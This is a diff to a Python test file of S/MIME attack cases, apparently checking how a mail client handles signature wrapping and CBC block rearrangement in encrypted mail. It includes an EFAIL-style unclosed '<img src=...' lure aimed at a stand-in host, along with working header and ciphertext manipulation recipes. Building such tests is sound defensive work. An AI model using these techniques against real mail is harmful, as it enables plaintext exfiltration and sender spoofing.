@@ -6,6 +6,7 @@ REQ-22 REQ-48 REQ-80 REQ-87
 """
 import base64
 import os
+import re
 
 import pytest
 
@@ -183,41 +184,101 @@ def first_block_turned_in_a_signed_mail(s):
     return Attack(captured.cbc(iv, captured.ciphertext), VICTIM_FROM, "002", "member-unsigned", OPAQUE)
 
 
-def forwarded(s, fields=lambda head: head):
-    """The victim forwards what an attacker, a person elsewhere, has signed: the attacker knows these octets and cuts
-    them out of the ciphertext, to stand in front of all that the victim wrote. The signature is good, and covers
-    neither the header above it nor what comes behind it."""
+def by_joe(s, content=b"Content-Type: text/html\r\n\r\n<img src='//e/?\r\n"):
+    """What an attacker, a person elsewhere, has signed; its boundary."""
     joe = s.authority.certificate_for([STRANGER], s.folder, common_name="Joe")
-    head, _, body = forge.detached(b"Content-Type: text/html\r\n\r\n<img src='//e/?\r\n", [joe]).partition(b"\r\n\r\n")
-    signed = fields(head) + b"\r\n\r\n" + body
+    signed = forge.detached(content, [joe])
+    return signed, re.search(rb'boundary="([^"]*)"', signed)[1]
+
+
+def forwarded(s, signed):
+    """The victim forwards what the attacker has signed: the attacker knows these octets and finds them in the
+    ciphertext, from block number at on. What the victim wrote is in the blocks before."""
     lead = TEXT + b"--f\r\nContent-Type: message/rfc822\r\n\r\nX-Fill: "
     fill = b"x" * (-(len(b"Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n" + lead) + 2) % 16)
     whole = (b"Content-Type: multipart/mixed; boundary=f\r\n\r\n--f\r\n" + lead + fill + b"\r\n" + signed
              + b"--f--\r\n")
-    captured, at = forge.Captured(forge.sealed(whole, s.agency[B])), whole.index(signed) // 16
     assert whole.index(signed) % 16 == 0
-    return captured.cbc(captured.blocks[at - 1], b"".join(captured.blocks[at:] + captured.blocks))
+    return forge.Captured(forge.sealed(whole, s.agency[B])), whole.index(signed) // 16
 
 
 @ATTACKS.add
 def forwarded_signature_in_front(s):
-    """Where every reader sees the same type, none renders what stands behind its last part."""
-    return Attack(forwarded(s), STRANGER, "", "opened", OPENED, absent=())
+    """Cut out, to stand in front of all that the victim wrote. The signature is good, and covers neither the
+    header above it nor what comes behind it."""
+    captured, at = forwarded(s, by_joe(s)[0])
+    return Attack(captured.cbc(captured.blocks[at - 1], b"".join(captured.blocks[at:] + captured.blocks)),
+                  STRANGER, "002", "encrypted-unsigned", OPAQUE)
 
 
-def read_otherwise(name, fields):
+@ATTACKS.add
+def forwarded_signature_that_is_a_page(s):
+    """Joe has called the part with his signature a page. Base64 ends at its padding; behind it he begins a tag, the
+    victim's text is put into it, and his own end of the tag comes behind that."""
+    signed, boundary = by_joe(s, b"Content-Type: text/plain\r\n\r\nHello\r\n")
+    front, mark, _ = signed.rpartition(b"--" + boundary + b"--")
+    front = front.replace(b"application/pkcs7-signature; name=smime.p7s\r\nContent-Transfer-Encoding: base64",
+                          b"text/html").rstrip(b"=\r\n") + b"=\r\n" + TAG
+    front += b"x" * (-len(front) % 16)
+    captured, at = forwarded(s, front + b"x" * 16 + b"'>\r\n" + mark + b"\r\n")
+    behind = at + len(front) // 16
+    blocks = captured.blocks[at:behind] + captured.blocks[1:at] + captured.blocks[behind:]
+    return Attack(captured.cbc(captured.blocks[at - 1], b"".join(blocks)), STRANGER, "002",
+                  "encrypted-unsigned", OPAQUE)
+
+
+def joes(name, change, *expected):
+    """Joe's own mail, sealed by him; in some ways it can be read otherwise than by its signature."""
     def make(s):
-        return Attack(forwarded(s, fields), STRANGER, "002", "encrypted-unsigned", OPAQUE)
-    make.__name__ = f"forwarded_signature_{name}"
+        signed, boundary = by_joe(s)
+        return Attack(forge.sealed(change(signed, boundary), s.agency[B]), STRANGER, *expected, absent=())
+    make.__name__ = f"signature_{name}"
     ATTACKS.add(make)
 
 
-read_otherwise("below_a_second_type", lambda head: head + b"\r\nContent-Type: text/html")
-read_otherwise("below_an_encoding", lambda head: head + b"\r\nContent-Transfer-Encoding: 7bit\r\n"
+def intact(name, change):
+    joes(name, change, "", "opened", OPENED)
+
+
+def doubtful(name, change):
+    joes(name, change, "002", "encrypted-unsigned", OPAQUE)
+
+
+def doubtful_below(name, more):
+    doubtful(name, lambda signed, boundary: signed.replace(b"\r\n\r\n", more + b"\r\n\r\n", 1))
+
+
+PART = b"Content-Type: application/pkcs7-signature; name=smime.p7s\r\n"
+
+intact("alone", lambda signed, boundary: signed)
+intact("below_the_usual_words", lambda signed, boundary: signed.replace(
+    b"\r\n\r\n", b"\r\n\r\nThis is a cryptographically signed message in MIME format.\r\n\r\n", 1))
+intact("by_its_file_name", lambda signed, boundary: signed.replace(
+    PART, b"Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename=smime.p7s\r\n")
+    + b"\r\n \r\n")
+doubtful_below("below_a_second_type", b"\r\nContent-Type: text/html")
+doubtful_below("below_an_encoding", b"\r\nContent-Transfer-Encoding: quoted-printable")
+doubtful_below("below_two_encodings", b"\r\nContent-Transfer-Encoding: 7bit\r\n"
                b"Content-Transfer-Encoding: base64")
-read_otherwise("with_a_second_boundary", lambda head: head + b";\r\n boundary=f")
-read_otherwise("with_a_boundary_in_pieces", lambda head: head + b";\r\n boundary*0=f")
-read_otherwise("with_a_comment", lambda head: head + b" (;\r\n boundary=f)")
+doubtful_below("with_a_second_boundary", b";\r\n boundary=f")
+doubtful_below("with_a_second_boundary_far_behind", b"".join(b";\r\n p%d=x" % i for i in range(29))
+               + b";\r\n boundary=f")
+doubtful_below("with_a_boundary_in_pieces", b";\r\n boundary*0=f")
+doubtful_below("with_a_comment", b" (;\r\n boundary=f)")
+doubtful("with_a_boundary_that_ends_in_a_blank",
+         lambda signed, boundary: signed.replace(boundary, boundary + b" "))
+doubtful("of_another_type", lambda signed, boundary: signed.replace(PART, b"Content-Type: text/html\r\n"))
+doubtful("with_text_behind_it", lambda signed, boundary: signed.replace(
+    b"\r\n--" + boundary + b"--", b"\r\n<b>\r\n--" + boundary + b"--"))
+doubtful("in_front_of_text", lambda signed, boundary: signed + b"<b>\r\n")
+doubtful("behind_a_page", lambda signed, boundary: signed.replace(b"\r\n\r\n", b"\r\n\r\n<b>\r\n", 1))
+
+
+@ATTACKS.add
+def signature_that_is_opaque(s):
+    """What it covers is within it."""
+    joe = s.authority.certificate_for([STRANGER], s.folder, common_name="Joe")
+    return Attack(forge.sealed(forge.opaque(TEXT, [joe]), s.agency[B]), STRANGER, "", "opened", OPENED, absent=())
 
 
 # The ciphertext within other layers ----------------------------------------------------------------
